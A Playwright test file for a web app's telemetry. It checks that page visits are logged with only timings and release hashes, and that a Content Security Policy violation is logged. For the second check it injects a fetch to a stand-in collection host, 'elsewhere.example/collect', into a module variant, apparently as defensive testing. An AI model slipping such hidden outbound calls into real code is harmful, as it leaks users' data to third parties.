import type { Page } from '@playwright/test'
import { lineOf, liveIn } from '../../fixtures/live.ts'
import { expect, test } from '../../fixtures/own-console.ts'
import { releaseVariant } from '../../fixtures/variants.ts'

test.use({ purpose: 'telemetry', as: 'owner' })
test.describe.configure({ mode: 'serial' })

interface Line {
  readonly event: string
  readonly [fact: string]: unknown
}

const lines = (output: string, event: string): Line[] =>
  output
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line))
    .filter((line) => line.event === event)

/** A page starts to report only once it has been open for a moment. */
async function openedForAWhile(page: Page, address: string): Promise<void> {
  await page.addInitScript(() => {
    const { addEventListener } = window
    window.addEventListener = (...listener: Parameters<typeof addEventListener>) => {
      if (listener[0] === 'pagehide') document.documentElement.dataset.reports = ''
      addEventListener.apply(window, listener)
    }
  })
  await page.goto(address)
  await expect(page.locator('html[data-reports]')).toHaveCount(1)
  await expect(page.getByRole('row').nth(1)).toBeVisible()
}

test('a visit is a line in the log when the person leaves: how fast it came, of which releases it was made, nothing else', async ({
  page,
  ownConsole,
  at,
}) => {
  await openedForAWhile(page, at('/campaigns?status=active'))
  await page.goto('about:blank')
  await expect.poll(() => lines(ownConsole.output(), 'page visited')).toHaveLength(1)
  const [line] = lines(ownConsole.output(), 'page visited')
  const { shell } = liveIn(ownConsole.registry)
  expect(line).toEqual({
    time: expect.any(String),
    level: 'info',
    event: 'page visited',
    request_id: expect.any(String),
    route: '/campaigns',
    shell: shell?.current.hash,
    times: { first_byte: expect.any(Number), drawn: expect.any(Number), loaded: expect.any(Number) },
    modules: [
      {
        id: 'campaigns',
        hash: lineOf(ownConsole.registry, 'campaigns').current.hash,
        version: expect.stringMatching(/^\d/),
        entry: expect.any(Number),
        pages: expect.any(Number),
      },
    ],
    failures: {},
    calls: { unreachable: 0, refused: 0, failed: 0 },
    witness: 'session',
  })
})

test.describe('a module that does what the content policy forbids', () => {
  test.use({ language: 'vi', expectedComplaints: [/Content Security Policy/] })

  test('is named in the log, with its release and the origin that it wanted', async ({ page, ownConsole, at }) => {
    const hash = await releaseVariant(ownConsole.registry, 'curious', [
      {
        file: 'src/campaigns/campaign-list.page.tsx',
        from: 'export function CampaignListPage() {',
        to: "void fetch('https://elsewhere.example/collect?from=the-list').catch(() => {})\nexport function CampaignListPage() {",
      },
    ])
    await expect.poll(async () => (await page.request.get(at('/campaigns'))).text()).toContain(hash)
    await page.goto(at('/campaigns'))
    await expect.poll(() => lines(ownConsole.output(), 'policy violated')).not.toEqual([])
    expect(lines(ownConsole.output(), 'policy violated')).toEqual([
      {
        time: expect.any(String),
        level: 'error',
        event: 'policy violated',
        request_id: expect.any(String),
        route: '/campaigns',
        directive: 'connect-src',
        blocked: 'https://elsewhere.example',
        by: 'campaigns',
        hash,
        file: 'page-campaign-list.js',
        line: expect.any(Number),
      },
    ])
  })
})
